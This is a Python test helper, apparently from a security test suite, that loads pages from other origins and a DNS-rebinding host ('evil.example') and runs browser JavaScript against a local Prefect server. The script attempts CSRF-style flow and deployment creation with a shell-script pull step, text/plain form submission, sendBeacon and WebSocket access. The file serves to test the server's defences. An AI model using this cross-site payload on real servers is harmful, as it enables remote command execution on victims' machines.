"""A page of another site that tries to use a Prefect server on this machine."""

from __future__ import annotations

import contextlib
import http.server
import threading
from collections.abc import Iterator
from typing import Any

import requests
from playwright.sync_api import Browser

SCRIPT = """
async api => {
    const answers = [], sockets = [];
    const ask = async (path, body, type, options) => {
        const request = body === undefined ? {} : {
            method: "POST", headers: {"Content-Type": type}, body: JSON.stringify(body)
        };
        try {
            const answer = await fetch(api + path, {...request, ...options});
            const text = await answer.text();
            if (answer.type !== "opaque") answers.push(`${path} ${answer.status} ${text}`);
            return JSON.parse(text);
        } catch {
            return null;
        }
    };
    await ask("/admin/version");
    await ask("/admin/version", undefined, "", {credentials: "include"});
    for (const type of ["text/plain", "application/json"]) {
        const steps = [{"prefect.deployments.steps.run_shell_script": {script: "touch proof"}}];
        const flow = await ask("/flows/", {name: "stolen"}, type);
        const made = await ask("/deployments/", {
            name: "stolen", flow_id: flow?.id, pull_steps: steps, entrypoint: "stolen.py:stolen",
        }, type);
        for (const one of [made, ...(await ask("/deployments/filter", {}, type) ?? [])]) {
            const change = {overrides: ["source.kind=json", "source.url=http://127.0.0.1/"]};
            const run = {parameters: {...one?.parameters, ...change}, state: {type: "SCHEDULED"}};
            await ask(`/deployments/${one?.id}/create_flow_run`, run, type);
        }
    }
    for (const mode of ["no-cors", "cors"]) {
        await ask("/flows/", {name: "blind"}, "text/plain", {mode, credentials: "include"});
        await ask("/flows/", undefined, "", {
            mode, method: "POST", body: new Blob([JSON.stringify({name: "blind"})]),
        });
    }
    navigator.sendBeacon(api + "/flows/", JSON.stringify({name: "blind"}));
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.name = "frame";
    const form = document.body.appendChild(document.createElement("form"));
    Object.assign(form, {action: api + "/flows/", method: "POST", target: "frame"});
    form.enctype = "text/plain";
    const field = form.appendChild(document.createElement("input"));
    [field.name, field.value] = ['{"name": "form", "tags": ["', '"]}'];
    form.submit();
    for (const path of ["/events/in", "/events/out", "/logs/out"]) {
        for (const protocol of [[], ["prefect"]]) {
            await new Promise(done => {
                const socket = new WebSocket(api.replace("http", "ws") + path, protocol);
                socket.onopen = () => { sockets.push(path); socket.close(); done(); };
                socket.onerror = done;
            });
        }
    }
    await new Promise(done => setTimeout(done, 1000));
    return {answers, sockets};
}
"""
"""Returns the answers that the page can read, and the WebSockets that were opened to it."""


SITE = "evil.example"
PAGES = ("127.0.0.1", "localhost", SITE)
"""Host names of the page: of the same site as the server (another port), and of other sites."""


@contextlib.contextmanager
def other_site() -> Iterator[int]:
    """Serve an empty page on another port of this machine; gives the port."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>Win a prize</title>")

        def log_message(self, *_: Any) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_address[1]
        server.shutdown()


def attack(browser: Browser, api: str) -> dict[str, list[str]]:
    """What pages of other origins, and of a rebound name, can read of an API."""
    reached: dict[str, list[str]] = {"answers": [], "sockets": []}
    with other_site() as port:
        for name in PAGES:
            page = browser.new_page()
            page.goto(f"http://{name}:{port}/")
            for kind, found in page.evaluate(SCRIPT, api).items():
                reached[kind] += found
            page.close()
    rebound = api.replace("127.0.0.1", SITE)
    page = browser.new_page()
    answer = page.goto(f"{rebound}/health")
    if answer is not None and answer.ok:
        for kind, found in page.evaluate(SCRIPT, rebound).items():
            reached[kind] += found
    page.close()
    return reached


def state_of(api: str, login: str) -> dict[str, list[Any]]:
    """Flows, deployments and their runs on a server."""
    user, _, password = login.partition(":")
    state = {}
    for kind in ("flows", "deployments", "flow_runs"):
        answer = requests.post(f"{api}/{kind}/filter", json={}, auth=(user, password), timeout=120)
        answer.raise_for_status()
        state[kind] = sorted(one["name"] for one in answer.json())
    return state
